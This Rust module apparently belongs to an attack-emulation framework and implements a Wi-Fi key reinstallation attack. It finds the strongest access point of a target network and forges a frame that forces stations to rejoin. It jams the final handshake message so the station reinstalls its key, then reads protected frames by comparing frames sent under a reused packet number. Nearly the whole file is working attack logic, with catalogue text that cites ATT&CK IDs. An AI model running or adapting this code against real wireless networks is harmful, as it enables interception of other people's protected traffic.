//! Makes stations use packet numbers twice, and reads what that gives away.

use super::craft::radio::{DWELL, Scan, forged};
use super::{Progress, Technique};
use crate::catalog::Entry;
use crate::net::port::{Input, Overheard};
use crate::parameters::{Network, Parameters};
use crate::time::Duration;
use crate::wire::Mac;
use crate::wire::dot11::{Dot11, Dot11Body};
use crate::wire::eap::EapolKey;

/// Technique `reinstall-key`.
#[derive(Debug)]
pub(super) struct ReinstallKey;

/// What a step gives to it.
#[derive(Clone, Debug, Parameters)]
pub(super) struct Params {
    /// Network.
    network: Network,
    /// How long at the most.
    #[param(key = "for", default = "10m")]
    span: Duration,
}

/// What an attempt remembers.
#[derive(Clone, Debug, Default)]
pub(super) struct State {
    scan: Scan,
    /// Protected frames kept to be compared with later ones.
    frames: Vec<Dot11>,
    /// Stations whose handshake it disturbed.
    spoiled: Vec<Mac>,
}

type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, ReinstallKey>;

static ENTRY: Entry = Entry {
    id: "reinstall-key",
    title: "Make a station install its key again",
    summary: "Listens near an access point, makes its stations join again with a forged frame, and drowns the message with which a station ends its \
              four-way handshake, so that the access point repeats the message before it. A station with the flaw installs its key again and uses its \
              packet numbers a second time; two frames under one number give each other away. Succeeds when it has read a frame. A station \
              without the flaw confirms again and goes on counting. What is under TLS stays so. A sensor could see the forged frame and the repeated message.",
    parameters: Params::PARAMETERS,
    relations: Params::RELATIONS,
    references: &["ICSMA-18-114-01", "T1557", "T1040"],
};

/// Longer than message 4 is in the air, shorter than that and the frame after it: whoever sends noise is deaf meanwhile,
/// and the frames that a station sends next are the ones to keep.
const NOISE: Duration = Duration::from_micros(180);
const AGAIN: Duration = Duration::from_secs(30);
const TOKEN_LOOK: u32 = 1;
const TOKEN_AGAIN: u32 = 2;
const TOKEN_END: u32 = 3;
/// Frames kept of a station, oldest lost first.
const KEPT: usize = 64;

fn look(step: &mut Step<'_, '_, '_>) -> Progress {
    if let Some(channel) = step.state.scan.next() {
        step.ask_networks(channel);
        step.hands.timer(DWELL, TOKEN_LOOK);
        return Progress::Wait;
    }
    begin(step)
}

/// Settles at the strongest access point of the network and makes its stations join again.
fn begin(step: &mut Step<'_, '_, '_>) -> Progress {
    let ssid = &step.params.network;
    let strongest = step.knowledge.radio.named(ssid).max_by_key(|n| n.dbm);
    let Some((bssid, channel)) = strongest.map(|n| (n.bssid, n.channel)) else {
        return Progress::Failed("no such network on the air");
    };
    step.hands.monitor(channel);
    step.hands.inject(forged(bssid));
    step.hands.timer(AGAIN, TOKEN_AGAIN);
    Progress::Reached(1)
}

fn heard(step: &mut Step<'_, '_, '_>, heard: &Overheard) -> Progress {
    step.note(heard);
    let frame = &heard.frame;
    match &frame.body {
        Dot11Body::EapolKey(EapolKey::M1 { .. }) => {
            // A new handshake gives new keys: what was kept of the station is of no more use.
            step.state.frames.retain(|f| f.ta != frame.ra);
            step.state.spoiled.retain(|s| *s != frame.ra);
            Progress::Wait
        }
        Dot11Body::EapolKey(EapolKey::M3 { .. }) if !step.state.spoiled.contains(&frame.ra) => {
            step.state.spoiled.push(frame.ra);
            step.hands.noise(Some(heard.channel), NOISE);
            Progress::Reached(2)
        }
        Dot11Body::Pairwise { number, .. } if step.state.spoiled.contains(&frame.ta) => {
            let number = *number;
            let same = |f: &&Dot11| {
                f.ta == frame.ta
                    && matches!(f.body, Dot11Body::Pairwise { number: n, .. } if n == number)
            };
            let twin = step.state.frames.iter().find(same).cloned();
            let Some(twin) = twin else {
                if step.state.frames.len() == KEPT {
                    step.state.frames.remove(0);
                }
                step.state.frames.push(frame.clone());
                return Progress::Wait;
            };
            // Each gives the other away, if they are not the same text.
            let pairs = [(frame, &twin), (&twin, frame)];
            let read = pairs.map(|(one, other)| step.hands.read_by_reuse(one, other));
            if !read.contains(&true) {
                return Progress::Wait;
            }
            step.hands
                .learned("a frame under a packet number used twice");
            step.hands.stop_monitoring();
            Progress::Done("read a protected frame")
        }
        _ => Progress::Wait,
    }
}

impl Technique for ReinstallKey {
    type Params = Params;
    type State = State;
    const ENTRY: &'static Entry = &ENTRY;
    const STAGES: &'static [&'static str] = &["look", "listen", "message 4 drowned", "frame read"];

    fn patience(params: &Params) -> Duration {
        params.span + Duration::from_mins(1)
    }

    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => {
                step.hands.timer(step.params.span, TOKEN_END);
                look(step)
            }
            Input::Timer(TOKEN_LOOK) => look(step),
            Input::Timer(TOKEN_AGAIN) => begin(step),
            Input::Timer(TOKEN_END) => {
                step.hands.stop_monitoring();
                Progress::Failed("no packet number came twice")
            }
            Input::Overheard(frame) => heard(step, frame),
            _ => Progress::Wait,
        }
    }
}
